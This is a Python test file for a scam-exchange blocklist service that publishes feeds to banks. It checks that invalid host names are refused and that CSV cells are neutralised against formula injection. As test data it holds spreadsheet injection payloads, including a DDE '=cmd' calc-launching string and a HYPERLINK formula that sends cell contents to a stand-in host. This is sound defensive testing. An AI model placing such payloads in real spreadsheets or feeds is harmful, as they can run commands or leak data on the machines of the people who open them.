"""What reaches banks: only valid names in every format, formula cells neutralised in every CSV."""

from __future__ import annotations

import ast
import csv
import io
import json
from pathlib import Path

from sqlmodel import Session, select

from blocklist.artefacts import build, resolve
from blocklist.formats import FORMATS
from blocklist.publish import REFUSED_ACTION, release
from blocklist.sign import load_signer
from scanner.detection import Document, analyze, load_lexicons
from scanner.findings import record_candidate, record_document, refresh_finding
from scanner.printable import storable
from scanner.review.decisions import decide
from scanner.store.db import session_scope
from scanner.store.models import AuditEvent, BlocklistEntry, Decision, Platform, PlatformDomain, User
from tests.conftest import REPO_ROOT

FORMULA_HOSTS = ("=1+2.evil-exchange.test", '=hyperlink("evil",b1).evil-exchange.test')
PAGE = (
    "<!doctype html><html><head><title>EvilX</title></head><body><h1>Buy USDT with JazzCash and Easypaisa</h1>"
    "<p>Trade crypto in Pakistan. Deposit PKR 5,000 from JazzCash, BTC/USDT spot, P2P in PKR.</p></body></html>"
)


def every_artefact(engine, config) -> dict[str, str]:
    signer = load_signer(config.data_dir)
    with Session(engine) as session:
        return {name: build(session, config, resolve(name), signer).body.decode() for name in FORMATS}


def publish(engine, config, finding_id: int, reason: str) -> None:
    with session_scope(engine) as session:
        for name in ("amina", "bilal"):
            if session.exec(select(User).where(User.username == name)).first() is None:
                session.add(User(username=name, password_hash="x", role="officer"))
        session.flush()
        decide(session, config, finding_id, "confirm", reason, "amina", via="cli")
        decide(session, config, finding_id, "approve", "checked", "bilal", via="cli")


def test_hostile_host_names_never_become_aliases_or_feed_entries(engine, config, seed):
    lexicons = load_lexicons(REPO_ROOT / "config" / "lexicons")
    evidence = seed.capture("www.evil-exchange.test")  # the publication gates want a verified capture
    with session_scope(engine) as session:
        for url in [f"http://{host}/deposit" for host in FORMULA_HOSTS] + ["http://www.evil-exchange.test/"]:
            document = Document(url, "text/html; charset=utf-8", PAGE.encode())
            capture = evidence if "www." in url else None
            page = record_document(session, analyze(document, lexicons, None), capture=capture, run_id=None, document=document)
        # a discovered link whose registrable part is itself no name is not a candidate platform
        assert not record_candidate(session, "http://=cmd|calc.test/", "http://www.evil-exchange.test/", None)
    with session_scope(engine) as session:
        finding = refresh_finding(session, page.platform_id, lexicons, None, None)
        finding_id = finding.id
        platforms = session.exec(select(Platform.key)).all()
        aliases = session.exec(select(PlatformDomain.value)).all()
    # the hostile pages still count towards their site's platform; only the names are dropped
    assert platforms == ["evil-exchange.test"] and finding.verdict == "flag"
    assert aliases == ["www.evil-exchange.test"]

    publish(engine, config, finding_id, "PKR deposits through JazzCash")
    with Session(engine) as session:
        values = sorted(session.exec(select(BlocklistEntry.value)).all())
    assert values == ["evil-exchange.test", "www.evil-exchange.test"]
    for name, body in every_artefact(engine, config).items():
        assert "www.evil-exchange.test" in body, name
        assert "hyperlink" not in body and "=1+2" not in body, name


def test_publication_refuses_names_stored_before_the_check_and_says_why(engine, config, seed):
    _, evil = seed.platform(
        "evil-exchange.test", domains=(*FORMULA_HOSTS, "x\n.evil-exchange.test", "t.me", "ok.evil-exchange.test")
    )
    _, app = seed.platform("play.google.com/store/apps/details?id==cmd|' /C calc'!A0", kind="hosted")
    assert seed.sync() is None  # held by the valid-name gate: the officers see why
    with session_scope(engine) as session:
        session.add(User(username="root", password_hash="x", role="admin"))
        session.flush()
        assert release(session, config, "root", "names refused, the rest may go").version == 1
    assert seed.sync() is None  # refusals do not make a new publication (or a new hold) at every decision
    with Session(engine) as session:
        listed = sorted((e.type, e.value) for e in session.exec(select(BlocklistEntry)))
        refusals = session.exec(select(AuditEvent).where(AuditEvent.action == REFUSED_ACTION)).all()
    assert listed == [("domain", "evil-exchange.test"), ("domain", "ok.evil-exchange.test")]
    reasons = {(event.subject, event.detail["value"]): event.detail["reason"] for event in refusals}
    assert len(refusals) == len(reasons) == 6  # recorded once each, though sync ran twice
    assert "has a character not allowed in a host name ('=')" in reasons[(f"finding:{evil}", FORMULA_HOSTS[0])]
    assert "U+000A" in reasons[(f"finding:{evil}", "x\n.evil-exchange.test")]
    assert "hosting site" in reasons[(f"finding:{evil}", "t.me")]
    assert "not a Google Play app id" in reasons[(f"finding:{app}", "=cmd|' /C calc'!A0")]

    domains = every_artefact(engine, config)["domains"]
    assert domains == "evil-exchange.test\nok.evil-exchange.test\n"


def test_an_entry_published_before_the_check_leaves_every_feed(engine, config, seed):
    seed.platform("evil-exchange.test")
    seed.sync()
    with session_scope(engine) as session:  # what today's code published: the newline rode along
        entry = session.exec(select(BlocklistEntry)).one()
        for value in ("x\n.evil-exchange.test", "=1+2.evil-exchange.test"):
            session.add(BlocklistEntry(**{**entry.model_dump(exclude={"id"}), "value": value, "entry_id": value[:6]}))
    artefacts = every_artefact(engine, config)
    assert artefacts["domains"] == "evil-exchange.test\n"
    for name, body in artefacts.items():
        assert "x\\n." not in body and "x\n." not in body and "=1+2" not in body, name
    seed.sync()  # the next publication withdraws them, saying why
    with Session(engine) as session:
        withdrawn = session.exec(select(BlocklistEntry).where(BlocklistEntry.removed_at.is_not(None))).all()
    assert {e.value for e in withdrawn} == {"x\n.evil-exchange.test", "=1+2.evil-exchange.test"}
    assert all(e.removal_reason.startswith("not a valid name: ") for e in withdrawn)


def publish_with_reasons(engine, seed, reasons: list[str]) -> None:
    """Platforms site0.test, site1.test ... confirmed with these reasons (as officers typed them), published."""
    for n in range(len(reasons)):
        seed.platform(f"site{n}.test")
    with session_scope(engine) as session:
        for decision in session.exec(select(Decision).where(Decision.action == "confirm")):
            n = int(decision.reason.removeprefix("confirmed site").removesuffix(".test"))
            decision.reason = reasons[n]
            session.add(decision)
    seed.sync()


def test_formula_cells_are_neutralised_in_the_csv_feed(engine, config, seed):
    reasons = ['=HYPERLINK("http://evil.test/?x="&A1,"click")', "+1+2", "-1+2", "@SUM(1)", "\tx", "\rx"]
    publish_with_reasons(engine, seed, reasons)
    rows = list(csv.DictReader(io.StringIO(every_artefact(engine, config)["csv"], newline="")))
    assert sorted(row["reason"] for row in rows) == sorted("'" + reason for reason in reasons)
    # numbers stay numbers; names and digests untouched
    assert all(float(row["confidence"]) == 0.9 and not row["value"].startswith("'") for row in rows)
    document = json.loads(every_artefact(engine, config)["json"])
    assert sorted(e["reason"] for e in document["entries"]) == sorted(reasons)  # JSON carries the text as is


def test_formulas_behind_leading_blanks_and_line_breaks_in_cells_stay_text(engine, config, seed):
    """Spreadsheets that trim cells on import read " =cmd|..." as a formula; a line break or NUL
    first is neutralised too. A reason spanning lines stays one cell of one row for the csv module."""
    reasons = [" =cmd|' /C calc'!A0", "\n=1+2", "\u3000@SUM(1)", "\0=HYPERLINK(1)", "first line\r\n=second line"]
    publish_with_reasons(engine, seed, reasons)
    rows = list(csv.DictReader(io.StringIO(every_artefact(engine, config)["csv"], newline="")))
    assert len(rows) == len(reasons)
    by_value = {row["value"]: row["reason"] for row in rows}
    for n, reason in enumerate(reasons[:4]):
        assert by_value[f"site{n}.test"] == "'" + storable(reason)  # a NUL is stored as U+FFFD
    assert by_value["site4.test"] == reasons[4]  # starts with text: as typed


def test_every_csv_the_product_writes_goes_through_the_one_helper():
    """`csv.writer`/`csv.DictWriter` appear only in scanner/csvsafe.py: no CSV can skip neutralising."""
    offenders = []
    for folder in ("scanner", "blocklist", "spiders"):
        for path in (REPO_ROOT / folder).rglob("*.py"):
            if path == REPO_ROOT / "scanner" / "csvsafe.py":
                continue
            for node in ast.walk(ast.parse(path.read_text(), str(path))):
                if isinstance(node, ast.Attribute) and node.attr in ("writer", "DictWriter"):
                    if isinstance(node.value, ast.Name) and node.value.id == "csv":
                        offenders.append(f"{Path(path).relative_to(REPO_ROOT)}:{node.lineno}")
    assert offenders == []
